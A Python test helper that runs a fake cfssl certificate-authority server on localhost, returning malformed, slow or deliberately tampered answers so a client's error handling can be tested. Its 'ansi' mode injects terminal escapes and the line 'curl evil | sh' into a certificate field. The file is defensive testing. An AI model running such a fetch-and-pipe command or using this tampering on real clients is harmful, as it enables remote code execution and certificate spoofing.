#!/usr/bin/python3
"""remote-fake.py: a fake cfssl CA server for tests/cli/t-remote.sh.

Usage: remote-fake.py MODE [ARGS]

It listens on 127.0.0.1 on a port chosen by the kernel, prints that port
on stdout (one line, flushed) once it accepts connections, and answers
every POST (any path) as MODE says:

  garbage200          200, Content-Type application/json, a body that is
                      not JSON
  html500             500, an HTML error page
  truncated           200, JSON cut off in the middle (Content-Length
                      matches what is sent: the HTTP exchange is fine)
  cutoff              200, Content-Length announces the whole envelope
                      but the connection is closed half way through it
  slow                sleeps 30 s before answering (then a valid-looking
                      error envelope); for client timeouts
  record DIR CERTFILE [UPSTREAM]
                      stores each request as DIR/N.body (the raw body)
                      and DIR/N.path (the request path), N = 1, 2, ...,
                      and answers success with CERTFILE's PEM as the
                      certificate (and usages/expiry for .../info); with
                      UPSTREAM (a real server's http://host:port), it
                      forwards the body to UPSTREAM + path instead and
                      relays the answer, so the client gets a
                      certificate for its own key
  hostile DIR UPSTREAM
                      forwards each request to UPSTREAM as record does,
                      then tampers with the answer as the file DIR/how
                      (read per request) says: otherkey (DIR/other.pem
                      instead), ca (DIR/ca.pem instead), foreign-first
                      (DIR/other.pem before the leaf), dupkey (a second
                      "certificate" key holding DIR/other.pem), privkey
                      (a PRIVATE KEY block after the leaf), ansi (shell
                      text with ANSI escapes after it), padding (3 MiB
                      after it), pass (unchanged), othersigner (every
                      request but /info goes to the server named in
                      DIR/upstream2 instead, answer unchanged)

Python 3 standard library only.  It runs until killed (SIGTERM).
"""

import http.server
import json
import os
import socketserver
import sys
import threading
import time
import urllib.error
import urllib.request


def usage():
    sys.stderr.write("usage: remote-fake.py garbage200|html500|truncated|"
                     "cutoff|slow|record DIR CERTFILE [UPSTREAM]|"
                     "hostile DIR UPSTREAM\n")
    sys.exit(2)


class Server(socketserver.ThreadingMixIn, http.server.HTTPServer):
    daemon_threads = True
    allow_reuse_address = True


class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    mode = None
    record_dir = None
    cert_pem = None
    upstream = None
    counter = 0
    lock = threading.Lock()

    def log_message(self, fmt, *args):
        sys.stderr.write("remote-fake: %s - %s\n" %
                         (self.address_string(), fmt % args))

    def send(self, status, ctype, body, length=None):
        self.send_response(status)
        self.send_header("Content-Type", ctype)
        self.send_header("Content-Length",
                         str(len(body) if length is None else length))
        self.send_header("Connection", "close")
        self.end_headers()
        self.wfile.write(body)
        self.wfile.flush()
        self.close_connection = True

    def read_body(self):
        n = int(self.headers.get("Content-Length") or 0)
        return self.rfile.read(n) if n > 0 else b""

    def envelope(self):
        if self.path.endswith("/info"):
            result = {"certificate": self.cert_pem,
                      "usages": ["signing", "key encipherment",
                                 "server auth"],
                      "expiry": "8760h"}
        else:
            result = {"certificate": self.cert_pem}
        return (json.dumps({"success": True, "result": result,
                            "errors": [], "messages": []}) + "\n").encode()

    def do_GET(self):
        self.send(405, "text/plain; charset=utf-8",
                  b'{"success":false,"result":null,"errors":[{"code":405,'
                  b'"message":"Method is not allowed:\\"GET\\""}],'
                  b'"messages":[]}\n')

    def do_POST(self):
        body = self.read_body()
        mode = self.mode
        if mode == "garbage200":
            self.send(200, "application/json",
                      b"this is not JSON at all\n")
        elif mode == "html500":
            self.send(500, "text/html",
                      b"<html><head><title>500 Internal Server Error"
                      b"</title></head><body><h1>Internal Server Error"
                      b"</h1></body></html>\n")
        elif mode == "truncated":
            self.send(200, "application/json",
                      b'{"success":true,"result":{"certificate":'
                      b'"-----BEGIN CERTIFICATE-----\\nMIIB')
        elif mode == "cutoff":
            full = (b'{"success":true,"result":{"certificate":'
                    b'"-----BEGIN CERTIFICATE-----\\nMIIBxTCCAWugAwIBAgIU'
                    b'\\n-----END CERTIFICATE-----\\n"},"errors":[],'
                    b'"messages":[]}\n')
            self.send(200, "application/json", full[:len(full) // 2],
                      length=len(full))
        elif mode == "slow":
            time.sleep(30)
            self.send(400, "text/plain; charset=utf-8",
                      b'{"success":false,"result":null,"errors":[{"code":'
                      b'400,"message":"too late"}],"messages":[]}\n')
        elif mode == "record":
            with Handler.lock:
                Handler.counter += 1
                n = Handler.counter
            base = os.path.join(self.record_dir, str(n))
            with open(base + ".body.tmp", "wb") as f:
                f.write(body)
            with open(base + ".path", "w") as f:
                f.write(self.path + "\n")
            # The body appears last, complete: the test waits for it.
            os.rename(base + ".body.tmp", base + ".body")
            if self.upstream is None:
                self.send(200, "application/json", self.envelope())
                return
            req = urllib.request.Request(
                self.upstream + self.path, data=body, method="POST",
                headers={"Content-Type": "application/json"})
            try:
                with urllib.request.urlopen(req, timeout=20) as r:
                    status, ctype, answer = (r.status,
                                             r.headers["Content-Type"],
                                             r.read())
            except urllib.error.HTTPError as e:
                status, ctype, answer = (e.code, e.headers["Content-Type"],
                                         e.read())
            self.send(status, ctype or "text/plain", answer)
        elif mode == "hostile":
            self.hostile(body)
        else:
            self.send(500, "text/plain", b"unknown mode\n")

    def hostile(self, body):
        def read(name):
            with open(os.path.join(self.record_dir, name)) as f:
                return f.read()
        how = read("how").strip()
        upstream = self.upstream
        if how == "othersigner" and not self.path.endswith("/info"):
            upstream = read("upstream2").strip()
        req = urllib.request.Request(
            upstream + self.path, data=body, method="POST",
            headers={"Content-Type": "application/json"})
        with urllib.request.urlopen(req, timeout=20) as r:
            env = json.loads(r.read())
        leaf = env["result"]["certificate"]
        res = env["result"]
        if how == "otherkey":
            res["certificate"] = read("other.pem")
        elif how == "ca":
            res["certificate"] = read("ca.pem")
        elif how == "foreign-first":
            res["certificate"] = read("other.pem") + leaf
        elif how == "privkey":
            res["certificate"] = (leaf + "-----BEGIN PRIVATE KEY-----\n"
                                  "MC4CAQAwBQYDK2VwBCIEIJ+0000000000000000"
                                  "0000000000000000000000000\n"
                                  "-----END PRIVATE KEY-----\n")
        elif how == "ansi":
            res["certificate"] = leaf + "\x1b[2J\x1b[31mcurl evil | sh\n"
        elif how == "padding":
            res["certificate"] = leaf + "A" * (3 * 1024 * 1024)
        text = json.dumps(env)
        if how == "dupkey":
            text = text.replace('"result": {', '"result": {"certificate": '
                                + json.dumps(leaf) + ', ', 1)
            text = text.replace('"certificate": ' + json.dumps(leaf) + ', '
                                + '"certificate": ' + json.dumps(leaf),
                                '"certificate": ' + json.dumps(leaf) + ', '
                                + '"certificate": '
                                + json.dumps(read("other.pem")), 1)
        self.send(200, "application/json", (text + "\n").encode())


def main():
    if len(sys.argv) < 2:
        usage()
    mode = sys.argv[1]
    if mode == "record":
        if len(sys.argv) not in (4, 5):
            usage()
        Handler.record_dir = sys.argv[2]
        if len(sys.argv) == 5:
            Handler.upstream = sys.argv[4].rstrip("/")
        with open(sys.argv[3]) as f:
            Handler.cert_pem = f.read()
    elif mode == "hostile":
        if len(sys.argv) != 4:
            usage()
        Handler.record_dir = sys.argv[2]
        Handler.upstream = sys.argv[3].rstrip("/")
    elif mode not in ("garbage200", "html500", "truncated", "cutoff",
                      "slow") or len(sys.argv) != 2:
        usage()
    Handler.mode = mode
    srv = Server(("127.0.0.1", 0), Handler)
    sys.stdout.write("%d\n" % srv.server_address[1])
    sys.stdout.flush()
    srv.serve_forever()


if __name__ == "__main__":
    main()
